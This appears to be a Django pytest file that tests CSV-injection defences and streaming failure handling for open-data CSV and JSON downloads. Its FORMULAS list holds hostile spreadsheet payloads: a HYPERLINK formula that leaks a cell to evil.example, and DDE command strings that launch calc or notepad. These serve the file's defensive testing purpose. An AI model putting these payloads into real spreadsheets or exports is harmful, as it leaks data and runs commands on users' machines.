"""Attacks through the open-data downloads: spreadsheet formulas in a cell (CSV injection),
text a spreadsheet would misread, and a stream that fails part-way. Runs on SQLite and
PostgreSQL."""

import csv
import io
import json
import logging

import pytest
from django.test import RequestFactory
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from initiatives.models import Initiative
from public import opendata
from publishing.spreadsheets import FORMULA_STARTS, spreadsheet_safe
from tests.factories import FAQFactory, InitiativeFactory

pytestmark = pytest.mark.django_db

# Cells that spreadsheets (Excel, LibreOffice, Google Sheets) run or read as formulas.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
]


def body(response):
    return b"".join(response.streaming_content)


def csv_cells(client, url):
    raw = body(client.get(url))
    assert raw.startswith(b"\xef\xbb\xbf"), "CSV starts with a UTF-8 byte-order mark"
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    return rows[0], rows[1:]


@pytest.fixture
def hostile():
    for number, text in enumerate(FORMULAS):
        InitiativeFactory(title=f"{text} #{number}", summary=text, slug=f"formula-{number}")
        FAQFactory(question=text, answer=text, slug=f"formula-{number}")


@pytest.mark.parametrize("list_name", ["initiatives:list", "faqs:list"])
def test_no_csv_cell_starts_a_formula_and_the_json_keeps_the_text(client, hostile, list_name):
    header, rows = csv_cells(client, f"{reverse(list_name)}?format=csv")
    cells = [cell for row in rows for cell in row]
    running = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert not running, running
    for text in FORMULAS:
        assert "'" + text in cells, text  # kept, behind an apostrophe
    data = json.loads(body(client.get(f"{reverse(list_name)}?format=json")))
    assert data["complete"] is True
    texts = {value for item in data["items"] for value in item.values() if isinstance(value, str)}
    assert set(FORMULAS) <= texts  # JSON: the exact text


@given(st.text(max_size=40))
def test_a_neutralised_cell_is_the_text_or_the_text_behind_an_apostrophe(text):
    cell = spreadsheet_safe(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell == text or cell == "'" + text


def test_csv_opens_with_a_byte_order_mark_and_keeps_typography(client):
    InitiativeFactory(title="Work plan 2021–2025 for the region’s ports", slug="typography")
    header, rows = csv_cells(client, f"{reverse('initiatives:list')}?format=csv")
    assert header[0] == "slug"
    assert "Work plan 2021–2025 for the region’s ports" in rows[0]


class FailingAfter:
    """A dataset's ``complete`` that fails on its second chunk, as when the database goes
    away part-way through a download."""

    def __init__(self, dataset):
        self.dataset, self.calls = dataset, 0

    def __call__(self, chunk):
        self.calls += 1
        if self.calls > 1:
            raise ConnectionError("the database went away")
        return self.dataset.complete(chunk)


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_a_download_that_fails_part_way_is_logged_and_marked_incomplete(monkeypatch, caplog, fmt):
    from dataclasses import replace

    from initiatives.opendata import INITIATIVES

    for number in range(5):
        InitiativeFactory(slug=f"stream-{number}")
    monkeypatch.setattr(opendata, "CHUNK_SIZE", 2)
    dataset = replace(INITIATIVES, complete=FailingAfter(INITIATIVES))
    request = RequestFactory().get("/initiatives/", {"format": fmt})
    with caplog.at_level(logging.ERROR, logger="public.opendata"):
        response = opendata.export_response(request, dataset, Initiative.objects.published(), fmt)
        text = body(response).decode("utf-8-sig")
    assert response.status_code == 200  # already sent when the failure comes
    assert "failed part-way" in caplog.text and "database went away" in caplog.text
    if fmt == "csv":
        assert text.splitlines()[-1] == opendata.INCOMPLETE
        assert len(list(csv.reader(io.StringIO(text)))) == 1 + 2 + 1  # header, 2 rows, error
    else:
        assert '"complete": true' not in text
        with pytest.raises(json.JSONDecodeError):
            json.loads(text)
        assert opendata.INCOMPLETE in text
